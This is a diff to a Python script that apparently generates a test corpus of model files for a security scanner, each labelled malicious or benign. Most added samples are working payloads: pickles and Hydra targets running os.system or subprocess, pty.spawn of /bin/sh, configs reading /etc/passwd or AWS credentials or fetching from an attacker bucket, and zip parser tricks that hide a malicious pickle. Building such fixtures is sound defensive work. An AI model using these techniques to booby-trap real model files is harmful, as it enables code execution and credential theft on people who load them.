@@ -7,19 +7,34 @@ correct scanner must give ("malicious" or "benign") and the bypass class it exer
 
 usage: model-corpus.py OUTDIR
 """
-import bz2, gzip, io, json, lzma, os, struct, sys, tarfile, zipfile, zlib
+import base64, bz2, gzip, io, json, lzma, os, pickle, struct, sys, tarfile, zipfile, zlib
 
 OUT = sys.argv[1] if len(sys.argv) > 1 else "target/model-corpus"
 os.makedirs(OUT, exist_ok=True)
 MANIFEST = []
 
 
-def emit(name, data, verdict, cls, note=""):
+# Files whose worst finding must be at least this severe: every gadget that runs code is
+# critical, whichever module carries it.
+CRITICAL = {
+    "p0_os_system.pkl", "p2_posix_system.pkl", "p4_builtins_exec.pkl", "py2_builtin_eval.pkl", "pip_main.pkl",
+    "pkgutil_resolve_name.pkl", "asyncio_unix_events.pkl", "cprofile_run.pkl", "timeit_timeit.pkl",
+    "doctest_debug_script.pkl", "trace_trace.pkl", "code_interpreter.pkl", "torch_collect_env_run.pkl",
+    "torch_hub_load.pkl", "torch_cpp_extension.pkl", "ctypes_cdll.pkl", "pty_spawn.pkl",
+    "uuid_get_command_stdout.pkl", "runpy_run_path.pkl", "importlib_import_module.pkl", "marshal_loads.pkl",
+    "numpy_runstring.pkl",
+}
+
+
+def emit(name, data, verdict, cls, note="", severity=None):
     path = os.path.join(OUT, name)
     os.makedirs(os.path.dirname(path), exist_ok=True)
     with open(path, "wb") as f:
         f.write(data)
-    MANIFEST.append({"file": name, "expect": verdict, "class": cls, "note": note})
+    entry = {"file": name, "expect": verdict, "class": cls, "note": note}
+    if severity or name in CRITICAL:
+        entry["severity"] = severity or "critical"
+    MANIFEST.append(entry)
 
 
 # ---- pickle opcode helpers (raw bytes) ----
@@ -379,6 +394,213 @@ emit("savedmodel/pyfunc/saved_model.pb", saved_model(saver, functions=[("__infer
 emit("misc/README.md", b"# A model card\n\nThis model classifies things.\n", "benign", "text")
 emit("misc/config.json", json.dumps({"hidden_size": 64, "architectures": ["Mlp"]}).encode(), "benign", "JSON config")
 emit("misc/tokenizer.txt", b"[PAD]\n[UNK]\nhello\nworld\n", "benign", "vocab")
+
+# =====================================================================================
+# Round 2 (issue 15): code reached through configuration, archive parser differentials,
+# pickles that do not announce themselves, lies told with allowlisted parts, severity by
+# capability. Sources: Keras CVE-2025-1550 / CVE-2025-12058 and the TFSMLayer and
+# TorchModuleWrapper advisories, NeMo/Hydra `_target_` instantiation (CVE-2025-23304 class),
+# transformers remote code (auto_map, custom pipelines, Hub kernels), CPython gh-86094
+# (zipfile reads the Info-ZIP Unicode Path field from 3.12), zipfile's NUL cut and
+# last-wins duplicates, PyTorch's legacy multi-pickle format, joblib's compat NDArrayWrapper.
+
+# ---- 1. configs that make loaders import, read or fetch ----
+def keras_zip(layers, members=("metadata.json", "config.json", "model.weights.h5"), compile_config=None):
+    cfg = {"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": layers}, "registered_name": None}
+    if compile_config:
+        cfg["compile_config"] = compile_config
+    all_members = {"metadata.json": json.dumps({"keras_version": "3.10.0"}).encode(), "config.json": json.dumps(cfg).encode(),
+                   "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\x00" * 64}
+    return bytes(zip_bytes([(m, all_members[m]) for m in members]))
+
+
+def klayer(cls, **config):
+    return {"module": "keras.layers", "class_name": cls, "config": {"name": cls.lower(), **config}, "registered_name": None}
+
+
+fn_loss = {"loss": {"module": "builtins", "class_name": "function", "config": "sparse_categorical_crossentropy", "registered_name": "function"},
+           "optimizer": "adam", "metrics": ["accuracy"]}
+emit("keras/function_loss.keras", keras_zip([dense], compile_config=fn_loss), "benign", "Keras 3 compile config with a function loss (module builtins)")
+emit("keras/builtins_exec_loss.keras", keras_zip([dense], compile_config={"loss": {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}}), "malicious", "function named after a Python builtin: older Keras imports builtins.exec (CVE-2025-1550)", severity="critical")
+emit("keras/stringlookup_file.keras", keras_zip([klayer("StringLookup", vocabulary="/etc/passwd")]), "malicious", "StringLookup vocabulary read from a path at load (CVE-2025-12058)", severity="high")
+emit("keras/textvectorization_remote.keras", keras_zip([klayer("TextVectorization", vocabulary="gs://attacker-bucket/vocab.txt")]), "malicious", "TextVectorization vocabulary fetched through tf.io.gfile", severity="critical")
+emit("keras/integerlookup_traversal.keras", keras_zip([klayer("IntegerLookup", vocabulary="../../../../home/user/.aws/credentials")]), "malicious", "IntegerLookup vocabulary path traversal", severity="high")
+emit("keras/tfsmlayer.keras", keras_zip([klayer("TFSMLayer", filepath="/tmp/attacker_savedmodel", call_endpoint="serve")]), "malicious", "TFSMLayer loads an external SavedModel", severity="critical")
+torch_blob = base64.b64encode(bytes(torch_zip(reduce_p2("os", "system")))).decode()
+emit("keras/torch_module_wrapper.keras", keras_zip([klayer("TorchModuleWrapper", module=torch_blob)]), "malicious", "TorchModuleWrapper embeds a torch.save blob (unpickled on load)", severity="critical")
+emit("keras/config_only.keras", keras_zip([dense, lam], members=("config.json",)), "malicious", "archive with only config.json: Keras builds the model before it looks for weights", severity="critical")
+
+
+def tar_gz(members):
+    tb = io.BytesIO()
+    with tarfile.open(fileobj=tb, mode="w:gz", format=tarfile.USTAR_FORMAT) as t:
+        for name, data in members:
+            ti = tarfile.TarInfo(name); ti.size = len(data); ti.mtime = 0
+            t.addfile(ti, io.BytesIO(data))
+    return tb.getvalue()
+
+
+nemo_ok = b"""target: nemo.collections.asr.models.EncDecCTCModelBPE
+nemo_version: 2.1.0
+sample_rate: 16000
+preprocessor:
+  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
+  sample_rate: 16000
+  features: 80
+encoder:
+  _target_: nemo.collections.asr.modules.ConformerEncoder
+  feat_in: 80
+  d_model: 256
+decoder:
+  _target_: nemo.collections.asr.modules.ConvASRDecoder
+  num_classes: 128
+optim:
+  name: adamw
+  lr: 0.001
+  sched:
+    name: CosineAnnealing
+"""
+weights = bytes(torch_zip(torch_data_pkl()))
+emit("nemo/asr_model.nemo", tar_gz([("./model_config.yaml", nemo_ok), ("./model_weights.ckpt", weights)]), "benign", "NeMo archive with framework targets")
+emit("nemo/hydra_target.nemo", tar_gz([("./model_config.yaml", nemo_ok.replace(b"nemo.collections.asr.modules.ConvASRDecoder", b"subprocess.Popen\n  args: [sh, -c, id]")), ("./model_weights.ckpt", weights)]), "malicious", "Hydra _target_ instantiation in a .nemo config", severity="critical")
+emit("nemo/hydra_flow_escaped.nemo", tar_gz([("./model_config.yaml", nemo_ok + b'callbacks: [{"_targ\\x65t_": "builtins.exec", "_args_": ["import os"]}]\n'), ("./model_weights.ckpt", weights)]), "malicious", "Hydra target in flow style with an escaped key", severity="critical")
+emit("nemo/top_level_target.nemo", tar_gz([("./model_config.yaml", nemo_ok.replace(b"target: nemo.collections.asr.models.EncDecCTCModelBPE", b"target: runpy.run_path")), ("./model_weights.ckpt", weights)]), "malicious", "NeMo top-level `target` imported by restore_from", severity="critical")
+emit("nemo/unknown_target.nemo", tar_gz([("./model_config.yaml", nemo_ok.replace(b"nemo.collections.asr.modules.ConformerEncoder", b"acme_models.encoders.Backdoor")), ("./model_weights.ckpt", weights)]), "malicious", "Hydra target outside the frameworks (imports an unknown package)", severity="high")
+def gguf_kv(extra):
+    kv = [("general.architecture", 8, gstr("llama"))] + [(k, 8, gstr(v)) for k, v in extra]
+    b = b"GGUF" + struct.pack("<IQQ", 3, 1, len(kv))
+    for k, t, v in kv:
+        b += gstr(k) + struct.pack("<I", t) + v
+    b += gstr("w") + struct.pack("<I", 1) + struct.pack("<Q", 8) + struct.pack("<IQ", 0, 0)
+    return b + b"\x00" * ((32 - len(b) % 32) % 32) + b"\x00" * 32
+
+
+emit("gguf/metadata_hydra.gguf", gguf_kv([("general.config", "model:\n  _target_: subprocess.check_output\n  args: [id]\n")]), "malicious", "Hydra target in GGUF string metadata", severity="critical")
+emit("gguf/metadata_text.gguf", gguf_kv([("general.name", "tiny-llama"), ("general.description", "A small model: trained on text.\nLicence: MIT")]), "benign", "GGUF with plain string metadata")
+emit("yaml/python_tag.yaml", b"model:\n  name: mlp\n  init: !!python/object/apply:os.system [\"id\"]\n", "malicious", "PyYAML python/object/apply tag", severity="critical")
+emit("yaml/hparams.yaml", b"model:\n  hidden: 64\n  layers: 2\noptimizer:\n  _target_: torch.optim.AdamW\n  lr: 0.0003\n", "benign", "hyper-parameter YAML with a framework target")
+
+emit("safetensors/metadata_hydra.safetensors", safetensors({"__metadata__": {"format": "pt", "config": json.dumps({"model": {"_target_": "os.system", "_args_": ["id"]}})}, "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, b"\x00" * 8), "malicious", "Hydra _target_ in safetensors __metadata__ (JSON string)", severity="critical")
+emit("safetensors/metadata_yaml.safetensors", safetensors({"__metadata__": {"format": "pt", "model_config": "encoder:\n  _target_: pty.spawn\n  argv: /bin/sh\n"}, "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, b"\x00" * 8), "malicious", "Hydra _target_ in safetensors __metadata__ (YAML string)", severity="critical")
+emit("safetensors/metadata_config.safetensors", safetensors({"__metadata__": {"format": "pt", "config": json.dumps({"encoder": {"_target_": "nemo.collections.asr.modules.ConformerEncoder", "d_model": 256}})}, "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, b"\x00" * 8), "benign", "safetensors metadata carrying a framework config")
+
+bert = {"architectures": ["BertForMaskedLM"], "model_type": "bert", "hidden_size": 768, "num_attention_heads": 12, "num_hidden_layers": 12, "vocab_size": 30522, "torch_dtype": "float32", "transformers_version": "4.46.0", "attn_implementation": "sdpa"}
+emit("hf/bert/config.json", json.dumps(bert, indent=2).encode(), "benign", "transformers config.json")
+emit("hf/bert/tokenizer_config.json", json.dumps({"tokenizer_class": "BertTokenizer", "do_lower_case": True, "model_max_length": 512}).encode(), "benign", "transformers tokenizer_config.json")
+emit("hf/remote_auto_map/config.json", json.dumps({**bert, "auto_map": {"AutoConfig": "attacker/payload--configuration_evil.EvilConfig", "AutoModel": "attacker/payload--modeling_evil.EvilModel"}}).encode(), "malicious", "auto_map pointing at another repository's code", severity="critical")
+emit("hf/local_auto_map/config.json", json.dumps({**bert, "auto_map": {"AutoModel": "modeling_custom.CustomModel"}}).encode(), "malicious", "auto_map: the repository's own Python runs with trust_remote_code", severity="high")
+emit("hf/custom_pipeline/config.json", json.dumps({**bert, "custom_pipelines": {"text-classification": {"impl": "pipeline_evil.EvilPipeline", "pt": ["AutoModelForSequenceClassification"]}}}).encode(), "malicious", "custom_pipelines implementation code", severity="high")
+emit("hf/hub_kernel/config.json", json.dumps({**bert, "_attn_implementation": "attacker/flash-attn-kernel"}).encode(), "malicious", "attn_implementation names a Hub kernel repository (compiled code)", severity="critical")
+emit("hf/tokenizer_remote/tokenizer_config.json", json.dumps({"tokenizer_class": "EvilTokenizer", "auto_map": {"AutoTokenizer": ["attacker/tok--tokenization_evil.EvilTokenizer", None]}}).encode(), "malicious", "tokenizer auto_map to another repository", severity="critical")
+
+
+# ---- 2. archive parser differentials ----
+def raw_zip(entries):
+    """A stored zip with names and extra fields written byte for byte:
+    entries are (name bytes, data, central extra, flags)."""
+    out = bytearray(); central = bytearray()
+    for name, data, extra, flags in entries:
+        crc = zlib.crc32(data)
+        off = len(out)
+        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 0, 0, 0x21, crc, len(data), len(data), len(name), 0) + name + data
+        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, 0, 0, 0x21, crc, len(data), len(data), len(name), len(extra), 0, 0, 0, 0, off) + name + extra
+    cd_off = len(out)
+    out += central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), cd_off, 0)
+    return bytes(out)
+
+
+def unicode_path(raw_name, new_name):
+    body = b"\x01" + struct.pack("<I", zlib.crc32(raw_name)) + new_name
+    return struct.pack("<HH", 0x7075, len(body)) + body
+
+
+evil_obj_npy = npy("|O", (1,), reduce_p2("os", "system"))
+torch_parts = [(b"archive/byteorder", b"little", b"", 0), (b"archive/data/0", struct.pack("<4f", 1, 2, 3, 4), b"", 0), (b"archive/version", b"3\n", b"", 0)]
+emit("zip/nul_name.pt", raw_zip([(b"archive/data.pkl", reduce_p2("os", "system"), b"", 0)] + torch_parts + [(b"archive/data.pkl\x00.bak", torch_data_pkl(), b"", 0)]), "malicious",
+     "NUL in a member name: Python's zipfile cuts it and reads the benign copy last (PyTorch loads the first)", severity="critical")
+emit("zip/unicode_path_storage.pt", raw_zip([(b"archive/data.pkl", torch_data_pkl(), b"", 0)] + torch_parts + [(b"archive/data/1", reduce_p2("os", "system"), unicode_path(b"archive/data/1", b"archive/data.pkl"), 0)]), "malicious",
+     "Unicode Path extra field renames a 'storage' to data.pkl for Python 3.12+ zipfile readers", severity="critical")
+emit("zip/unicode_path_npz.npz", raw_zip([(b"weights.npy", good_npy, b"", 0), (b"notes.txt", evil_obj_npy, unicode_path(b"notes.txt", b"weights.npy"), 0)]), "malicious",
+     "npz member renamed by a Unicode Path extra field (numpy on Python 3.12+ loads it)", severity="critical")
+emit("zip/duplicate_last_wins.npz", raw_zip([(b"w.npy", good_npy, b"", 0), (b"w.npy", evil_obj_npy, b"", 0)]), "malicious",
+     "duplicate npz member: zipfile (numpy) takes the last, a first-match reader the benign one", severity="critical")
+emit("zip/data_pkl_only.pt", raw_zip([(b"archive/data.pkl", reduce_p2("os", "system"), b"", 0)]), "malicious", "torch archive holding only data.pkl (no version or storages)", severity="critical")
+
+
+# ---- 3. pickles that do not announce themselves ----
+noproto = sglob("posix", "system") + call1(sbu("id")) + STOP
+emit("pickle/no_proto.pkl", noproto, "malicious", "protocol 4 body without a PROTO opcode", severity="critical")
+framed = b"\x95" + struct.pack("<Q", len(noproto)) + noproto
+emit("pickle/frame_first.bin", framed, "malicious", "FRAME first, no PROTO", severity="critical")
+emit("pickle/second_pickle_no_proto.pkl", pickle.dumps({"ok": 1}, protocol=4) + noproto, "malicious", "second pickle in the stream without PROTO", severity="critical")
+evil_p0 = glob("os", "system") + b"(" + string0("id") + b"tR."
+legacy_p0 = magic + evil_p0 + sys_info + torch_data_pkl() + proto(2) + b"]" + binu("0") + b"a." + struct.pack("<Q", 4) + struct.pack("<4f", 1, 2, 3, 4)
+emit("torch/legacy_protocol_pickle_evil.bin", legacy_p0, "malicious", "legacy torch: the protocol-version pickle (2nd of 5) is a protocol 0 call", severity="critical")
+legacy_sys = magic + proto(2) + b"M\xe9\x03." + noproto + torch_data_pkl() + proto(2) + b"]" + binu("0") + b"a." + struct.pack("<Q", 4) + struct.pack("<4f", 1, 2, 3, 4)
+emit("torch/legacy_sysinfo_no_proto.bin", legacy_sys, "malicious", "legacy torch: sys_info pickle without PROTO", severity="critical")
+# raw storages after the fifth pickle may look like anything, even a GLOBAL
+legacy_noise = magic + proto(2) + b"M\xe9\x03." + sys_info + torch_data_pkl() + proto(2) + b"]" + binu("0") + b"a." + struct.pack("<Q", 99) + b"cfoo\nbar\n" + b"\x00" * 387
+emit("torch/legacy_storage_noise.bin", legacy_noise, "benign", "legacy torch whose raw storage bytes parse as a GLOBAL")
+
+
+# ---- 4. lies told with allowlisted parts ----
+def npy_raw(header_literal, data):
+    h = header_literal + " " * ((64 - (10 + len(header_literal) + 1) % 64) % 64) + "\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h.encode("latin-1") + data
+
+
+emit("numpy/object_escaped.npy", npy_raw("{'descr': '\\x4f', 'fortran_order': False, 'shape': (1,), }", reduce_p2("os", "system")), "malicious", "object dtype spelled '\\x4f'", severity="critical")
+emit("numpy/object_concat.npy", npy_raw("{'descr': '|' 'O', 'fortran_order': False, 'shape': (1,), }", reduce_p2("os", "system")), "malicious", "object dtype by implicit string concatenation", severity="critical")
+emit("numpy/object_word.npy", npy_raw("{'descr': 'object', 'fortran_order': False, 'shape': (1,), }", reduce_p2("os", "system")), "malicious", "object dtype spelled 'object'", severity="critical")
+emit("numpy/object_comma.npy", npy_raw("{'descr': 'i4,O', 'fortran_order': False, 'shape': (1,), }", reduce_p2("os", "system")), "malicious", "structured dtype string with an object field", severity="critical")
+emit("numpy/object_last_key.npy", npy_raw("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), 'descr': '|O'}", reduce_p2("os", "system")), "malicious", "descr written twice: Python keeps the last (object)", severity="critical")
+rec = struct.pack("<di", 1.5, 2) * 3
+emit("numpy/structured_field_O.npy", npy_raw("{'descr': [('O', '<f8'), ('x', '<i4')], 'fortran_order': False, 'shape': (3,), }", rec), "benign", "structured dtype with a field named O")
+emit("numpy/structured_field_O.npz", bytes(zip_bytes([("a.npy", npy_raw("{'descr': [('O', '<f8'), ('x', '<i4')], 'fortran_order': False, 'shape': (3,), }", rec))], zipfile.ZIP_DEFLATED)), "benign", "np.savez_compressed of a structured dtype with a field named O")
+emit("numpy/shape_lies.npy", npy_raw("{'descr': '<f4', 'fortran_order': False, 'shape': (1000000,), }", b"\x00" * 16), "malicious", "npy shape claims more data than the file holds")
+hdr = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
+emit("safetensors/header_past_end.safetensors", struct.pack("<Q", 4096) + hdr + b"\x00" * 8, "malicious", "safetensors header length larger than the file", severity="high")
+emit("safetensors/dtype_spelling.safetensors", safetensors({"w": {"dtype": "float32", "shape": [2], "data_offsets": [0, 8]}}, b"\x00" * 8), "malicious", "safetensors dtype spelled as a NumPy name")
+nd = proto(2) + glob("joblib.numpy_pickle", "NDArrayWrapper") + b")\x81}(" + binu("filename") + binu("/tmp/attacker/evil.npy") + binu("subclass") + glob("numpy", "ndarray") + b"ub."
+emit("joblib/legacy_ndarraywrapper.pkl", nd, "malicious", "legacy joblib NDArrayWrapper: np.load(allow_pickle=True) of a path the pickle names", severity="critical")
+
+
+# ---- 5. severity: code execution through lesser-known entry points ----
+for fname, mod, name, arg in [
+    ("torch_benchmark_timer.pkl", "torch.utils.benchmark.utils.timer", "Timer", "__import__('os').system('id')"),
+    ("torch_bottleneck.pkl", "torch.utils.bottleneck.__main__", "run_cprofile", "import os"),
+    ("torch_testing_shell.pkl", "torch.testing._internal.common_utils", "shell", "id"),
+    ("profile_runctx.pkl", "profile", "runctx", "import os"),
+    ("sklearn_run_script.pkl", "sklearn.utils._testing", "assert_run_python_script_without_output", "import os"),
+    ("test_support_script.pkl", "test.support.script_helper", "assert_python_ok", "-c"),
+    ("numpy_exec_command.pkl", "numpy.distutils.exec_command", "exec_command", "id"),
+    ("transformers_dynamic.pkl", "transformers.dynamic_module_utils", "get_class_from_dynamic_module", "attacker/repo--m.C"),
+    ("line_profiler_runctx.pkl", "line_profiler", "LineProfiler.runctx", "import os"),
+    ("osx_support_read_output.pkl", "_osx_support", "_read_output", "id"),
+    ("idlelib_run.pkl", "idlelib.run", "exec", "import os"),
+    ("scipy_weave.pkl", "scipy.weave", "inline", "system(\"id\");"),
+]:
+    emit(f"severity/{fname}", reduce_p4(mod, name, arg), "malicious", f"code execution through {mod}.{name}", severity="critical")
+
+
+# ---- benign files as the real libraries write them (emulated here; the real libraries write
+# ---- theirs in scripts/model-corpus-real.py) ----
+def joblib_framed():
+    """joblib.dump(protocol 4): PROTO, a FRAME ending at the wrapper's BUILD, the array bytes
+    outside any frame, then a new FRAME."""
+    dtype = glob("numpy", "dtype") + b"(" + binu("f8") + b"\x89\x88tR" + b"(K\x03" + binu("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
+    state = b"}(" + binu("subclass") + glob("numpy", "ndarray") + binu("shape") + b"K\x04\x85" + binu("order") + binu("C") + binu("dtype") + dtype + binu("allow_mmap") + b"\x88" + binu("numpy_array_alignment_bytes") + b"K\x10u"
+    body1 = b"}(" + binu("a") + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
+    head = proto(4) + b"\x95" + struct.pack("<Q", len(body1)) + body1
+    pad = 16 - ((len(head) + 1) % 16)
+    data = bytes([pad]) + b"\xff" * pad + struct.pack("<4d", 1, 2, 3, 4)
+    body2 = binu("n") + b"K\x07" + b"u."
+    return head + data + b"\x95" + struct.pack("<Q", len(body2)) + body2
+
+
+emit("joblib/framed_arrays.joblib", joblib_framed(), "benign", "joblib protocol 4: array bytes between frames")
+zstorage = b"\x78\x9c" + b"\x01\x02\x03\x04" * 3 + b"\x00\x00"
+emit("torch/zlib_like_storage.pt", bytes(zip_bytes([("archive/data.pkl", torch_data_pkl()), ("archive/byteorder", b"little"), ("archive/data/0", zstorage), ("archive/version", b"3\n")])), "benign", "tensor bytes that start with a zlib header (78 9c)")
 
 with open(os.path.join(OUT, "MANIFEST.json"), "w") as f:
     json.dump(MANIFEST, f, indent=1)
